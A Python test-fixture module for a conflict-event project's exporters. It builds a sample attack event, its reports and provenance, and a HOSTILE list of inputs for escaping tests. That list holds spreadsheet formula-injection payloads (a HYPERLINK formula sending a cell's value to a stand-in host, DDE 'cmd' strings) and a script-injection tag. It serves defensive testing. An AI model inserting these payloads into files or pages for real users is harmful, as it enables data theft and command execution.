"""What exporters are given in tests: an attack with all that an event can hold, and one of each sort of place and time."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

from dateline.domain.actor import Actor, ActorKind
from dateline.domain.claim import Role
from dateline.domain.code import Code
from dateline.domain.event import Event, EventAccount, EventLink, EventLinkType, EventStatus, Participant
from dateline.domain.ids import AccountId, ActorId, ClaimId, EventId, document_key
from dateline.domain.reading import Reading
from dateline.domain.run import Run
from dateline.domain.telling import Party, Telling, ToldClaim, ToldCount, Words
from dateline.domain.value import Measure
from dateline.export import EXPORTERS, Material, Provenance, Report, Told, Written, write
from dateline.ontology import load_ontology
from dateline.plugins import DEFAULTS
from tests.report import made as events
from tests.store.made import raw_document, reading, report

#: Every scheme's code of an attack by a rebel group on civilians.
CODES = (
    Code("acled-like-2025", "Attack"),
    Code("cameo-1.1b3", "1823"),
    Code("muc4-1992", "ATTACK"),
    Code("plover-2024", "ASSAULT", "firearms"),
    Code("ucdp-ged-26.1", "3"),
)

PROVENANCE = Provenance(
    dateline="0.1.0",
    policy="most-supported",
    filters=("countries=MLI",),
    ledger_seq=12,
    ledger_hash="ab" * 32,
    at=datetime(2024, 5, 21, 8, 30, tzinfo=UTC),
    runs=(Run("0.1.0", "c" * 64, (("extract/local", "3"),)),),
    digests={"ontology": "d" * 64},
)

#: How spreadsheet programs begin a formula, and what else a careless writer breaks on.
HOSTILE = (
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "'=1+1",
    'two\nlines, "quoted"; and\ttabs',
    "a\x00b\x1b[31m",
    "lone \ud800 surrogate",
    "#event+type",
    "</script><script>alert(1)</script>",
)


def attack(**fields: Any) -> Event:
    """An attack near Osmal that three reports tell of and a person has reviewed."""
    told = events.attack()
    named = [replace(one, account=AccountId(f"k{number:016x}")) for number, one in enumerate(told.accounts, 1)]
    known: dict[str, Any] = {
        "id": EventId("e00000000000000a1"),
        "codes": CODES,
        "accounts": tuple(named),
        "links": (EventLink(EventLinkType.PART_OF, EventId("e00000000000000b2")),),
    }
    return replace(told, **(known | fields))


def all_events() -> list[Event]:
    """The attack, and one of each sort of place and time, one that a person rejected among them."""
    rest = [replace(one, id=EventId(f"e{number:016x}")) for number, one in enumerate(events.some_events()[2:], 2)]
    rest = [replace(one, codes=CODES) if one.place is not None else one for one in rest]
    return [attack(), *rest, replace(attack(), id=EventId("e00000000000000ff"), status=EventStatus.REJECTED)]


def telling(event: Event, number: int = 0, *, civilian: bool | None = None) -> Telling:
    """What one report of an event says: a claim with who, whom and how many."""
    account = event.accounts[number]
    text = "The Red Hand killed 14 traders near Osmal on Friday."
    claim = event.tolls[-1].figures[number].claim if event.tolls else ClaimId("c1")
    return Telling(
        account=account.account,
        document=document_key(account.document),
        label=account.document,
        type=event.type,
        mode=event.mode,
        outlet=account.outlet,
        published=account.published,
        title=f"Attack near Osmal {number}",
        relevance=account.relevance,
        focus=number == 0,
        claims=(
            ToldClaim(
                id=claim,
                type=event.type,
                trigger=Words(113, 119, "killed"),
                evidence=Words(100, 100 + len(text), text),
                parties=(
                    Party(role=Role.ACTOR, text="The Red Hand", actor=ActorId("athe-red-hand")),
                    Party(role=Role.RECIPIENT, text="14 traders"),
                ),
                counts=(
                    ToldCount(measure=Measure.KILLED, words=Words(120, 122, "14"), low=14, high=14, civilian=civilian),
                ),
                confidence=0.87,
            ),
        ),
        actors=(Actor(id=ActorId("athe-red-hand"), name="the Red Hand", kind=ActorKind.GROUP),),
    )


def told_of(event: Event, *, civilian: bool | None = None) -> Told:
    """An event with what its reports say."""
    if not event.tolls or event.restricted:
        return Told(event=event)
    few = min(len(event.accounts), len(event.tolls[-1].figures))
    tellings = tuple(telling(event, number, civilian=civilian) for number in range(few))
    reports = {
        one.document: Report(
            document=one.document, key=document_key(one.document), title=f"Attack near Osmal {number}", outlet=one.outlet,
            published=one.published, url=f"https://news.example/{number}" if number else None,
        )
        for number, one in enumerate(event.accounts)
    }  # fmt: skip
    return Told(event=event, tellings=tellings, reports=reports)


def a_reading(number: int = 0, more: str = "") -> Reading:
    """A report of our own, read; with more words right after what was read."""
    text = report(number) + more
    source = raw_document(text, uri=f"report-{number}.txt", raw=text.encode("utf-8", "replace"))
    return reading(source, text, url=f"https://news.example/{more}" if more else None)


def hostile_event(words: str) -> Event:
    """An attack whose every word is that."""
    base = attack()
    place = replace(base.place, name=words, admin1=words, admin2=words) if base.place else None
    party = Participant(
        role=Role.ACTOR, actor=events.actor(words, ActorKind.PERSON, sector="REB"), supporters=(ClaimId("c1"),)
    )
    struck = replace(party, role=Role.RECIPIENT)
    tolls = tuple(
        replace(
            toll,
            figures=tuple(
                replace(one, text=words, sources=(words,), outlet=words, document=words) for one in toll.figures
            ),
        )
        for toll in base.tolls
    )
    accounts = (EventAccount(account=AccountId("k1"), document=words, outlet=words, published=date(2024, 5, 11)),)
    return replace(base, place=place, participants=(party, struck), tolls=tolls, accounts=accounts)


def export(
    to: str,
    path: Path,
    told: Iterable[Told] | None = None,
    *,
    readings: Iterable[Reading] = (),
    provenance: Provenance = PROVENANCE,
) -> Written:
    """Writes events in a format, as the service does."""
    exporter = EXPORTERS.get(to)(DEFAULTS)
    some = [told_of(event) for event in all_events()] if told is None else told
    material = Material(told=iter(some), provenance=provenance, readings=readings)
    return write(exporter, material, path, load_ontology().schemes)


def path_for(to: str, folder: Path, stem: str = "events") -> Path:
    """Where an export of that format goes."""
    return folder / f"{stem}{EXPORTERS.get(to).ending}"
